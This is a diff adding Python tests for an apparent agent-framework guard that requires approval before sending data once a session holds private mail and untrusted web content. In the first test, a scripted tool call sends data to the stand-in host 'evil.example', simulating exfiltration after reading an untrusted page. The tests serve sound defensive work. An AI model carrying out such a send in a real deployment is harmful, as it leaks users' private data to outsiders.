@@ -152,3 +152,53 @@ def test_a_clear_begins_anew():
 
     assert judge(guard.policy, send).effect == "allow"
     assert guard.policy.preset == "auto"  # what the inner policy shows can still be read
+
+
+@pytest.mark.parametrize("way", ["resumed", "opened", "new kit without the reader"])
+def test_what_a_session_brings_along_counts(way, tmp_path, monkeypatch):
+    """U68, S211: private data and a page are in the talk that is gone on with, so the first sending asks."""
+    monkeypatch.setenv("KIT_DATA_DIR", str(tmp_path))
+    first = Kit(
+        provider=ScriptedProvider([tool_call("read_mail"), tool_call("read_page", url="x")], "read"),
+        tools=[read_mail, read_page],
+        permissions="auto",
+    )
+    first.prompt_sync("what is new?")
+    path = first.session.path
+    first.close()
+    guard = TriangleGuard("auto", undeclared=Legs(private=True, untrusted="hard"))
+    asked = []
+    kit = Kit(
+        provider=ScriptedProvider([tool_call("send", to="evil.example", words="4711")], "ok"),
+        session="memory" if way == "resumed" else path,
+        tools=[send] if way.startswith("new") else [read_mail, read_page, send],
+        permissions=guard.policy,
+        extensions=[guard],
+        approver=CallbackApprover(lambda question: asked.append(question) or Approval(allowed=False)),
+    )
+    if way == "resumed":
+        kit.resume_sync(path)
+
+    kit.prompt_sync("go on")
+
+    assert len(asked) == 1
+    kit.close()
+
+
+def test_a_name_that_the_model_made_up_brings_nothing_in():
+    """A call of no tool is no reason to ask at every sending after."""
+    guard = TriangleGuard("auto")
+    provider = ScriptedProvider([tool_call("no_such_tool")], "sorry", [tool_call("send", to="a", words="b")], "sent")
+    kit = Kit(
+        provider=provider,
+        session="memory",
+        tools=[send],
+        permissions=guard.policy,
+        extensions=[guard],
+        approver="nobody",
+    )
+
+    kit.prompt_sync("one")
+    kit.prompt_sync("two")
+
+    assert not provider.last_request.messages[-1].parts[0].is_error
